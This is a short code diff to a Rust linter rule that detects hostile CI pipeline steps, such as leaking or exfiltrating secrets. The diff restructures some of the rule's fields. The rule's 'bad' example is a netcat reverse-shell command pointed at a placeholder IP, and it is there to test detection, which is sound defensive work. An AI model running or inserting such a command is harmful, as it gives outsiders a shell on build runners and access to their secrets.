@@ -35,8 +35,6 @@ pub(super) static RULE: Rule = Rule {
           in base64, the runner's memory searched for secrets, everything sent to a page where anybody can read it. An honest \
           pipeline has another way for each of them.",
     severity: Severity::Error,
-    settings: "",
-    refused: &[],
     check: Check::Project(check),
     examples: &[
         Example::bad(&[("ci", r#"{ jobs.test.steps = [{ run = "nc -e /bin/sh 203.0.113.7 4444" }] }"#)]),
@@ -54,6 +52,7 @@ pub(super) static RULE: Rule = Rule {
         )]),
         Example::good(&[("ci", r#"{ jobs.test.steps = [{ run = "echo \"$KEY\" | base64 -d > key.json\nbun install" }] }"#)]),
     ],
+    ..Rule::PORTABLE
 };
 
 fn check(scope: &Scope<'_>, findings: &mut Findings) {
